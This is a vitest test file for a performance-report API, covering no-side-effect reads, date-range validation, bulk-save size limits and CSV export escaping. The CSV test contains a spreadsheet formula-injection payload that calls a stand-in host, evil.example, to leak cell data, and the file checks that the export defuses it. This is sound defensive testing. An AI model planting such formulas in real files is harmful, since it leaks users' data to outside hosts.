import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../support/app.ts';
import { fingerprint } from '../security/helpers.ts';
import { makeDepartment, makeEmployee, makeSkill, save, submission } from './support.ts';

let t: TestApp;
let admin: string;
let employee: string;
let skill: string;

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Skill")';

/** Today's date on the server's clock (this process's) moved by whole days. */
function daysFromToday(days: number): string {
  const now = new Date();
  const day = new Date(now.getFullYear(), now.getMonth(), now.getDate() + days);
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${day.getFullYear()}-${pad(day.getMonth() + 1)}-${pad(day.getDate())}`;
}

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.login();
  const dept = await makeDepartment(t, admin);
  skill = await makeSkill(t, admin, 'Accuracy');
  employee = await makeEmployee(t, admin, dept, 'SEC-001', 'Ann Lee');
  await makeEmployee(t, admin, dept, 'SEC-002', 'Bob Stone');
  await save(t, admin, [
    submission(employee, '2024-03-05', { [skill]: 7 }),
    submission(employee, '2024-02-10', { [skill]: 9 }),
  ]);
});
afterAll(() => t.close());

describe('reading performances stores nothing', () => {
  it('pages sorted by each average, reports and exports of dates never read before leave every table as it was', async () => {
    const before = await fingerprint(t.handle.db);
    const dates = ['2024-03-05', '2024-03-06', '2023-07-14', '1999-12-31', daysFromToday(200)];
    for (const date of dates) {
      for (const sortField of ['daily', 'monthly', 'yearly']) {
        for (const sortValue of ['asc', 'desc']) {
          const res = await t.get('GetPerformances', admin, {
            date,
            sortField,
            sortValue,
            limit: 1,
            page: 2,
          });
          expect(res.statusCode, res.body).toBe(200);
          expect(res.json().total).toBe(2);
        }
      }
      expect((await t.get('GetPerformanceReport', admin, { date, sortField: 'yearly' })).statusCode).toBe(
        200,
      );
      expect((await t.post('GetPerformanceReport', { date, sortField: 'daily' }, admin)).statusCode).toBe(
        200,
      );
      expect((await t.get('ExportPerformanceReport', admin, { date, sortField: 'monthly' })).statusCode).toBe(
        200,
      );
    }
    expect(await fingerprint(t.handle.db)).toEqual(before);
  });
});

describe('performance dates lie between 1970-01-01 and a year after today', () => {
  const latest = daysFromToday(365);
  const message = `Date must be between 1970-01-01 and ${latest}`;
  const outside = ['0001-01-01', '1969-12-31', '9999-12-31', daysFromToday(366)];

  /**
   * Every endpoint that takes a date, asked for one date; `field` is where a refusal names it and
   * `last` the latest date it takes (a save takes none after today, see the next block).
   */
  const endpoints: {
    name: string;
    field: string;
    last?: string;
    ask: (date: string) => ReturnType<TestApp['get']>;
  }[] = [
    { name: 'GetPerformances', field: 'date', ask: (date) => t.get('GetPerformances', admin, { date }) },
    {
      name: 'GET GetPerformanceReport',
      field: 'date',
      ask: (date) => t.get('GetPerformanceReport', admin, { date }),
    },
    {
      name: 'POST GetPerformanceReport',
      field: 'date',
      ask: (date) => t.post('GetPerformanceReport', { date }, admin),
    },
    {
      name: 'ExportPerformanceReport',
      field: 'date',
      ask: (date) => t.get('ExportPerformanceReport', admin, { date }),
    },
    {
      name: 'GetPerformancesByDateAndEmployeeCodes',
      field: 'date',
      ask: (date) =>
        t.postJson('GetPerformancesByDateAndEmployeeCodes', { date, employeeCodes: [employee] }, admin),
    },
    {
      name: 'CreateUpdatePerformances',
      field: 'performances.1.date',
      last: daysFromToday(0),
      ask: (date) =>
        t.postJson(
          'CreateUpdatePerformances',
          {
            performances: [
              submission(employee, '2024-05-02', { [skill]: 3 }),
              submission(employee, date, { [skill]: 4 }),
            ],
          },
          admin,
        ),
    },
  ];

  for (const endpoint of endpoints) {
    it(`${endpoint.name}: a 400 naming the range outside it, the bounds accepted`, async () => {
      for (const date of outside) {
        const res = await endpoint.ask(date);
        expect(res.statusCode, `${date}: ${res.body}`).toBe(400);
        expect(res.json().errors, date).toEqual([{ field: endpoint.field, message }]);
      }
      for (const date of ['1970-01-01', endpoint.last ?? latest]) {
        const res = await endpoint.ask(date);
        expect(res.statusCode, `${date}: ${res.body.slice(0, 300)}`).toBe(200);
      }
    });
  }

  it('a refused save stores nothing, not even its valid rows', async () => {
    const before = await fingerprint(t.handle.db);
    const res = await t.postJson(
      'CreateUpdatePerformances',
      {
        performances: [
          submission(employee, '2024-06-03', { [skill]: 5 }),
          submission(employee, '9999-12-31', { [skill]: 5 }),
        ],
      },
      admin,
    );
    expect(res.statusCode).toBe(400);
    expect(await fingerprint(t.handle.db)).toEqual(before);
  });
});

describe('the bulk save body', () => {
  it('takes the largest batch it is sized for, 5,000 rows of 20 skills, and refuses a byte more than its limit', async () => {
    const skills = await Promise.all(
      Array.from({ length: 20 }, (_, i) => makeSkill(t, admin, `Bulk ${String(i).padStart(2, '0')}`)),
    );
    const rows = Array.from({ length: 5000 }, (_, i) => ({
      performanceCode: `PERF-${String(i).padStart(16, '0')}`,
      employeeCode: `EMP-${String(i).padStart(16, '0')}`,
      date: '2024-03-05',
      performancePerSkill: skills.map((skillCode) => ({ skillCode, pointsEarned: '10', totalPoints: 10 })),
    }));
    const largest = await t.postJson('CreateUpdatePerformances', { performances: rows }, admin);
    // Read, validated and checked against the database: the employees do not exist.
    expect(largest.statusCode).toBe(400);
    expect(largest.json().errors[0]).toMatchObject({ field: 'performances.0.employeeCode' });
    // Validated 500 rows at a time: a value in the last chunk is named at its place in the batch.
    rows[4999]!.performancePerSkill[19]!.pointsEarned = '11';
    rows[1]!.date = '9999-12-31';
    const refused = await t.postJson('CreateUpdatePerformances', { performances: rows }, admin);
    expect(refused.json().errors.map((e: { field: string }) => e.field)).toEqual([
      'performances.1.date',
      'performances.4999.performancePerSkill.19.pointsEarned',
    ]);

    const text = JSON.stringify({ performances: [submission(employee, '2024-03-05', { [skill]: 1 })] });
    const over = await t.app.inject({
      method: 'POST',
      url: '/api/CreateUpdatePerformances',
      payload: text.padEnd(10 * 1024 * 1024 + 1, ' '),
      headers: { 'content-type': 'application/json', cookie: admin },
    });
    expect(over.statusCode).toBe(413);
  });
});

describe('the CSV export', () => {
  it('keeps a skill title that is a formula inert in the header row, like every other cell', async () => {
    const evil = await makeSkill(t, admin, FORMULA);
    await save(t, admin, [submission(employee, '2024-03-05', { [evil]: 8 })]);
    const res = await t.get('ExportPerformanceReport', admin, { date: '2024-03-05' });
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = res.body.replace(/^\ufeff/, '').split('\r\n');
    expect(header).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Skill"")"`);
    // No field of any line starts with what a spreadsheet would run.
    for (const line of [header, ...rows]) expect(line).not.toMatch(/(^|,)"[=+\-@\t\r]/);
  });
});
